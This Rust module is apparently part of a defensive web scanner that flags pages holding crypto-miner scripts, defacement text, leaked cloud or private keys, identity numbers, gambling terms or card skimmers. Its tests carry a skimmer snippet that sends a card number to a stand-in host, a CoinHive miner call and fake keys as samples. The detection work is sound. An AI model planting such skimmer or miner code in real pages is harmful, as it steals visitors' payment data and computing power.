//! What a page should not hold, as data: `data/web/content.yml`. Pure: a page in, findings out.

use super::html::Page;
use crate::mask::middle;
use model::{Severity, Text};
use regex::Regex;
use serde::Deserialize;
use std::collections::BTreeSet;
use std::sync::OnceLock;

/// Matches of one rule that are counted on one page.
const MOST_MATCHES: usize = 200;
/// Different matches that are shown; the rest is counted.
const MOST_SHOWN: usize = 3;

/// A rule as it stands in the file.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Written {
    id: String,
    severity: Severity,
    part: Part,
    regex: String,
    #[serde(default)]
    verify: Option<Verify>,
    #[serde(default)]
    at_least: Option<usize>,
    /// Whether what is matched must not be shown.
    #[serde(default)]
    secret: bool,
    class: Text,
    name: Text,
    description: Text,
    fix: Text,
}

#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Part {
    Script,
    Text,
    Page,
}

#[derive(Debug, Clone, Copy, Deserialize)]
#[serde(rename_all = "kebab-case")]
enum Verify {
    Luhn,
    ChinaId,
    NoExample,
}

/// A rule that is ready.
struct Rule {
    written: Written,
    regex: Regex,
}

/// What was found on a page.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Finding {
    pub(super) check: String,
    pub(super) severity: Severity,
    pub(super) class: Text,
    pub(super) name: Text,
    pub(super) description: Text,
    pub(super) fix: Text,
    /// What proves it, masked where it is a secret.
    pub(super) shown: String,
}

fn rules() -> &'static [Rule] {
    static RULES: OnceLock<Vec<Rule>> = OnceLock::new();
    RULES.get_or_init(|| read().unwrap_or_default())
}

fn read() -> Result<Vec<Rule>, String> {
    let text = include_str!("../../../../data/web/content.yml");
    let written: Vec<Written> = serde_saphyr::from_str(text).map_err(|error| error.to_string())?;
    let compile = |written: Written| {
        let regex = Regex::new(&written.regex).map_err(|error| format!("{}: {error}", written.id))?;
        Ok(Rule { written, regex })
    };
    written.into_iter().map(compile).collect()
}

/// Looks at one page, or at a script of its own (`page` has no tags then).
pub(super) fn find(html: &str, page: &Page) -> Vec<Finding> {
    rules().iter().filter_map(|rule| rule.find(html, page)).collect()
}

impl Rule {
    fn find(&self, html: &str, page: &Page) -> Option<Finding> {
        let scripts;
        let part = match self.written.part {
            Part::Page => html,
            Part::Text => &page.text,
            Part::Script => {
                scripts = page.code();
                &scripts
            }
        };
        let (mut different, mut shown) = (BTreeSet::new(), Vec::new());
        for found in self.regex.captures_iter(part).take(MOST_MATCHES) {
            let Some(found) = found.get(1).or_else(|| found.get(0)).map(|found| found.as_str()) else { continue };
            let holds = match self.written.verify {
                Some(Verify::Luhn) => luhn(found),
                Some(Verify::ChinaId) => china_id(found),
                Some(Verify::NoExample) => !is_example(found),
                None => true,
            };
            if holds && different.insert(found.to_lowercase()) && shown.len() < MOST_SHOWN {
                shown.push(self.shown(found));
            }
        }
        if different.len() < self.written.at_least.unwrap_or(1) {
            return None;
        }
        let mut shown = shown.join(", ");
        if different.len() > MOST_SHOWN {
            shown = format!("{shown} (+{})", different.len() - MOST_SHOWN);
        }
        Some(Finding {
            check: self.written.id.clone(),
            severity: self.written.severity,
            class: self.written.class.clone(),
            name: self.written.name.clone(),
            description: self.written.description.clone(),
            fix: self.written.fix.clone(),
            shown,
        })
    }

    /// A match on one line, masked where it is a secret.
    fn shown(&self, found: &str) -> String {
        let line = found.split_whitespace().collect::<Vec<_>>().join(" ");
        let line = if self.written.secret { middle(&line) } else { line };
        model::visible(&line).chars().take(120).collect()
    }
}

/// Whether a key is one of those that manuals show.
fn is_example(key: &str) -> bool {
    let lower = key.to_ascii_lowercase();
    let words = ["example", "sample", "xxxx", "your", "placeholder", "dummy", "1234567890"];
    words.iter().any(|word| lower.contains(word)) || key.bytes().collect::<BTreeSet<_>>().len() < 8
}

/// The check digit of card numbers.
fn luhn(digits: &str) -> bool {
    let sum: u32 = digits
        .bytes()
        .rev()
        .enumerate()
        .map(|(at, byte)| {
            let digit = u32::from(byte.saturating_sub(b'0'));
            let doubled = if at % 2 == 1 { digit * 2 } else { digit };
            if doubled > 9 { doubled - 9 } else { doubled }
        })
        .sum();
    sum.is_multiple_of(10) && digits.bytes().collect::<BTreeSet<_>>().len() > 2
}

/// The check digit of Chinese identity numbers (GB 11643).
fn china_id(number: &str) -> bool {
    const WEIGHTS: [u32; 17] = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2];
    let sum: u32 =
        number.bytes().zip(WEIGHTS).map(|(byte, weight)| u32::from(byte.saturating_sub(b'0')) * weight).sum();
    let check = "10X98765432".chars().nth((sum % 11) as usize);
    number.chars().nth(17).map(|last| last.to_ascii_uppercase()) == check
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::web::html;

    #[track_caller]
    fn check(page: &str, expected: &[&str]) {
        let found = find(page, &html::parse(page));
        let found: Vec<String> = found.iter().map(|finding| format!("{} {}", finding.check, finding.shown)).collect();
        assert_eq!(found, expected, "{page}");
    }

    #[test]
    fn the_file_is_read() {
        assert!(read().unwrap().len() >= 12);
    }

    #[test]
    fn what_pages_should_not_hold() {
        check(
            "<script src=https://coinhive.com/lib/coinhive.min.js></script>",
            &["web-mining-script coinhive.com, coinhive.min.js"],
        );
        check("<h1>Hacked by Somebody</h1>", &["web-defaced <h1>Hacked by"]);
        check("<p>We were not hacked by anybody last year.</p>", &[]);
        check("<p>key AKIA3XJ7QPLMZK42WVTR</p>", &["web-cloud-key AK****TR"]);
        check("<p>key AKIAIOSFODNN7EXAMPLE, token ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx</p>", &[]);
        let body = "MIIEowIBAAKCAQEAuQ1y0fH3m1bq7b0cX0k9fX2pJm1v8n0m3s5d7g9h1j2k4l6z";
        let (begin, end) = (["-----BEGIN RSA PRIVATE", " KEY-----"].concat(), "-----END RSA PRIVATE KEY-----");
        check(&format!("<pre>{begin}\n{body}\n{end}</pre>"), &[&format!("web-private-key {begin}")]);
        check(&format!("<p>A key begins with <code>{begin}</code> ... and ends with <code>{end}</code>.</p>"), &[]);
        check("11010519491231002X, 440524198001010013", &["web-identity-numbers 11****2X, 44****13"]);
        check("110105194912310021, 440524198001010011", &[]);
        check("博彩 赌场 百家乐", &["web-gambling-words 博彩, 赌场, 百家乐"]);
        check("A casino in a novel", &[]);
        let keys = "LTAI5tAbCdEfGhIjKlMnOpQr AKIA3XJ7QPLMZK42WVTR akia AKIA3XJ7QPLMZK42WVTR AKIA3XJ7QPLMZK42WVT2 AKIA3XJ7QPLMZK42WVT3";
        check(keys, &["web-cloud-key LT****Qr, AK****TR, AK****T2 (+1)"]);
        check(
            "<p>Pages held <code>&lt;script&gt;new CoinHive.Anonymous('k')&lt;/script&gt;</code> of coinhive.com.</p>",
            &[],
        );
        check("<script>new CoinHive.Anonymous('k').start()</script>", &["web-mining-script CoinHive.Anonymous"]);
        check(
            "<script>var n=document.querySelector('#card_number').value; navigator.sendBeacon('https://x.invalid/c', n)</script>",
            &["web-skimmer card_number').value; navigator.sendBeacon("],
        );
    }
}
